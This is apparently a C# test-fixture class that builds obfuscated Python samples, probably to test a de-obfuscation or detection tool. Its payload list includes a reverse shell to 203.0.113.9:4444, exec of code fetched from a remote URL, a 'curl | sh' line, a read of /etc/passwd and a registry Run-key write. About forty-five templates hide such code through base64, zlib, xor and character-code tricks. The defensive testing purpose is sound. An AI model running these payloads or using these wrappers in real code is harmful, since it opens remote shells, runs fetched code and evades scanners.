using System.IO.Compression;
using System.Text;

namespace Stemma.Decoding.Tests;

/// <summary>Ways to hide Python code. The same seed gives the same text.</summary>
internal static class PythonObfuscation
{
    public static readonly string[] Payloads =
    [
        "import os; os.system('whoami')",
        "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/a.py').read())",
        "import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
        "print('done')",
        "with open('/etc/passwd') as f:\n    data = f.read()\nprint(len(data))",
        "import shutil\nfor name in ['a', 'b']:\n    shutil.copy(name, '/tmp/' + name)",
        "import subprocess\nsubprocess.Popen('curl http://files.example.net/x | sh', shell=True)",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Run', 0, winreg.KEY_SET_VALUE)",
    ];

    public static readonly (string Name, Func<string, Random, string> Hide)[] All =
    [
        ("base64 exec", (s, r) => $"import base64\nexec(base64.b64decode('{B64(U(s))}'))"),
        ("base64 aliased", (s, r) => $"from base64 import b64decode as _d;_x=exec;_x(_d(b\"{B64(U(s))}\").decode())"),
        ("base64 imported inline", (s, r) => $"exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('{B64(U(s))}')[0]))"),
        ("base32", (s, r) => $"import base64 as b\nexec(b.b32decode('{B32(U(s))}').decode('utf-8'))"),
        ("base16", (s, r) => $"import base64\nexec(base64.b16decode('{Convert.ToHexString(U(s))}'))"),
        ("base85", (s, r) => $"import base64\nexec(base64.b85decode('{B85(U(s))}').decode())"),
        ("fromhex", (s, r) => $"exec(bytes.fromhex('{Hex(s)}').decode())"),
        ("unhexlify", (s, r) => $"import binascii;eval(compile(binascii.unhexlify('{Hex(s)}'),'<string>','exec'))"),
        ("zlib and base64", (s, r) => $"import zlib,base64\nexec(zlib.decompress(base64.b64decode(b'{B64(Deflated(U(s)))}')))"),
        ("zlib, base64, reversed", (s, r) => $"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{Reversed(B64(Deflated(U(s))))}'))"),
        ("gzip", (s, r) => $"import gzip,base64\nexec(gzip.decompress(base64.b64decode('{B64(Gzip(U(s)))}')).decode())"),
        ("layers of exec", Layers),
        ("rot13", (s, r) => $"import codecs\nexec(codecs.decode({Lit(Rot13(s))}, 'rot13'))"),
        ("reversed", (s, r) => $"exec({Lit(Reversed(s))}[::-1])"),
        ("reversed join", (s, r) => $"exec(''.join(reversed({Lit(Reversed(s))})))"),
        ("chr list", (s, r) => $"exec(''.join([chr(i) for i in [{Codes(s, 0)}]]))"),
        ("chr concatenation", (s, r) => $"exec({string.Join('+', s.Select(c => $"chr({(int)c})"))})"),
        ("chr map with lambda", (s, r) => $"exec(''.join(map(lambda x: chr(x-{7}), [{Codes(s, 7)}])))"),
        ("chr map", (s, r) => $"eval(compile(''.join(map(chr,({Codes(s, 0)}))),'','exec'))"),
        ("xor loop", Xored),
        ("xor with a key", XoredWithKey),
        ("bytearray in place", (s, r) => $"d=bytearray([{string.Join(',', U(s).Select(b => b ^ 0x2a))}])\nfor i in range(len(d)):\n    d[i] ^= 0x2a\nexec(d.decode())"),
        ("escapes", (s, r) => $"exec(\"{string.Concat(U(s).Select(b => $"\\x{b:x2}"))}\")"),
        ("octal escapes", (s, r) => $"exec('{string.Concat(U(s).Select(b => "\\" + Convert.ToString(b, 8).PadLeft(3, '0')))}')"),
        ("pieces", (s, r) => $"exec({string.Join('+', Pieces(s, r).Select(Lit))})"),
        ("pieces in variables", InVariables),
        ("join and split", (s, r) => $"exec(' '.join({Lit(s.Replace(" ", "|#|", StringComparison.Ordinal))}.split('|#|')))"),
        ("replace junk", (s, r) => $"exec({Lit(string.Concat(s.Select(c => r.Next(3) == 0 ? c + "Qz7" : c.ToString())))}.replace('Qz7',''))"),
        ("format", (s, r) => $"exec('{{1}}{{0}}'.format({Lit(s[(s.Length / 2)..])}, {Lit(s[..(s.Length / 2)])}))"),
        ("percent format", (s, r) => $"exec('%s%s' % ({Lit(s[..(s.Length / 3)])}, {Lit(s[(s.Length / 3)..])}))"),
        ("percent characters", (s, r) => $"exec('{string.Concat(s.Select(_ => "%c"))}' % ({Codes(s, 0)},))"),
        ("f-string", (s, r) => $"a={Lit(s[..(s.Length / 2)])}\nb={Lit(s[(s.Length / 2)..])}\nexec(f'{{a}}{{b}}')"),
        ("translate", (s, r) => $"t=str.maketrans('abcdefghijklmnopqrstuvwxyz','bcdefghijklmnopqrstuvwxyza')\nexec({Lit(string.Concat(s.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + ((c - 'a' + 25) % 26)) : c)))}.translate(t))"),
        ("indices of an alphabet", (s, r) => Alphabet(s, r)),
        ("getattr on builtins", (s, r) => $"getattr(__builtins__, 'ex'+'ec')(getattr(__import__('bas'+'e64'), 'b64'+'decode')('{B64(U(s))}'))"),
        ("builtins by name", (s, r) => $"__builtins__.__dict__['cexe'[::-1]](__import__('base64').b64decode('{B64(U(s))}'))"),
        ("globals", (s, r) => $"globals()['__builtins__'].exec(bytes([{string.Join(',', U(s))}]))"),
        ("function", (s, r) => $"def dec(data, key):\n    out = ''\n    for c in data:\n        out += chr(ord(c) ^ key)\n    return out\nexec(dec({Lit(string.Concat(s.Select(c => (char)(c ^ 3))))}, 3))"),
        ("large number", (s, r) => $"exec(({new System.Numerics.BigInteger(U(s), true, true)}).to_bytes({U(s).Length}, 'big').decode())"),
        ("hexadecimal number", (s, r) => $"n = 0x{Hex(s)}\nexec(bytes.fromhex('%x' % n).decode())"),
        ("while loop", (s, r) => $"s={Lit(Reversed(s))}\no=''\ni=len(s)-1\nwhile i>=0:\n  o+=s[i]\n  i-=1\nexec(o)"),
        ("list shuffled", Shuffled),
        ("class with a method", (s, r) => $"import base64\nclass A:\n    def run(self):\n        exec(base64.b64decode('{B64(U(s))}').decode())\nA().run()"),
        ("try and if", (s, r) => $"import sys, base64\ntry:\n    if sys.version_info[0] > 2:\n        d = base64.b64decode('{B64(U(s))}')\n        exec(d)\nexcept Exception as e:\n    pass"),
        ("reduce and cycle", (s, r) => $"from itertools import cycle\nk='key'\nexec(''.join(chr(a^ord(b)) for a,b in zip([{string.Join(',', s.Select((c, i) => c ^ "key"[i % 3]))}], cycle(k))))"),
    ];

    private static byte[] U(string text) => Encoding.UTF8.GetBytes(text);

    private static string B64(byte[] bytes) => Convert.ToBase64String(bytes);

    private static string Hex(string text) => Convert.ToHexString(U(text)).ToLowerInvariant();

    private static string Reversed(string text) => new([.. text.Reverse()]);

    private static string Codes(string text, int plus) => string.Join(", ", text.Select(c => c + plus));

    private static string Lit(string text) => "'" + string.Concat(text.Select(c => c switch { '\\' => "\\\\", '\'' => "\\'", '\n' => "\\n", '\r' => "\\r", < ' ' => $"\\x{(int)c:x2}", _ => c.ToString() })) + "'";

    private static string Rot13(string text) =>
        string.Concat(text.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + ((c - 'a' + 13) % 26)) : char.IsAsciiLetterUpper(c) ? (char)('A' + ((c - 'A' + 13) % 26)) : c));

    private static byte[] Deflated(byte[] bytes)
    {
        using var to = new MemoryStream();
        using (var zlib = new ZLibStream(to, CompressionLevel.SmallestSize)) { zlib.Write(bytes); }
        return to.ToArray();
    }

    private static byte[] Gzip(byte[] bytes)
    {
        using var to = new MemoryStream();
        using (var gzip = new GZipStream(to, CompressionLevel.SmallestSize)) { gzip.Write(bytes); }
        return to.ToArray();
    }

    private static string B32(byte[] bytes)
    {
        const string Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
        var result = new StringBuilder();
        int bits = 0, value = 0;
        foreach (byte b in bytes)
        {
            value = (value << 8) | b;
            for (bits += 8; bits >= 5; bits -= 5) { result.Append(Alphabet[(value >> (bits - 5)) & 31]); }
            value &= (1 << bits) - 1;
        }
        if (bits > 0) { result.Append(Alphabet[(value << (5 - bits)) & 31]); }
        while (result.Length % 8 != 0) { result.Append('='); }
        return result.ToString();
    }

    private static string B85(byte[] bytes)
    {
        const string Alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
        var result = new StringBuilder();
        for (int i = 0; i < bytes.Length; i += 4)
        {
            int count = Math.Min(4, bytes.Length - i);
            uint value = 0;
            for (int j = 0; j < 4; j++) { value = (value << 8) | (j < count ? bytes[i + j] : 0u); }
            var group = new char[5];
            for (int j = 4; j >= 0; j--) { group[j] = Alphabet[(int)(value % 85)]; value /= 85; }
            result.Append(group, 0, count + 1);
        }
        return result.ToString();
    }

    private static string Layers(string text, Random random)
    {
        for (int i = 0; i < 4; i++) { text = $"import zlib,base64;exec(zlib.decompress(base64.b64decode('{B64(Deflated(U(text)))}')))"; }
        return text;
    }

    private static string Xored(string text, Random random)
    {
        int key = random.Next(1, 120);
        return $"key = {key}\ndata = [{string.Join(", ", U(text).Select(b => b ^ key))}]\ncode = bytes([b ^ key for b in data]).decode('utf-8')\nexec(code)";
    }

    private static string XoredWithKey(string text, Random random)
    {
        string key = "k" + random.Next(1000, 9999);
        return $"import base64\nk = b'{key}'\nd = base64.b64decode('{B64([.. U(text).Select((b, i) => (byte)(b ^ key[i % key.Length]))])}')\nr = bytearray()\nfor i, c in enumerate(d):\n    r.append(c ^ k[i % len(k)])\nexec(r.decode())";
    }

    private static List<string> Pieces(string text, Random random)
    {
        List<string> pieces = [];
        for (int i = 0; i < text.Length;)
        {
            int length = Math.Min(text.Length - i, random.Next(1, 6));
            pieces.Add(text.Substring(i, length));
            i += length;
        }
        return pieces;
    }

    private static string InVariables(string text, Random random)
    {
        List<string> pieces = Pieces(text, random);
        return string.Concat(pieces.Select((piece, i) => $"v{i}={Lit(piece)}\n")) + $"exec({string.Join('+', pieces.Select((_, i) => $"v{i}"))})";
    }

    private static string Alphabet(string text, Random random)
    {
        string alphabet = new([.. text.Distinct().OrderBy(_ => random.Next())]);
        return $"a={Lit(alphabet)};exec(''.join(a[i] for i in [{string.Join(',', text.Select(c => alphabet.IndexOf(c)))}]))";
    }

    private static string Shuffled(string text, Random random)
    {
        List<string> pieces = Pieces(text, random);
        int[] order = [.. Enumerable.Range(0, pieces.Count)];
        random.Shuffle(order);
        return $"p=[{string.Join(',', order.Select(i => Lit(pieces[i])))}]\no=[{string.Join(',', order)}]\nexec(''.join(x for _, x in sorted(zip(o, p))))";
    }
}
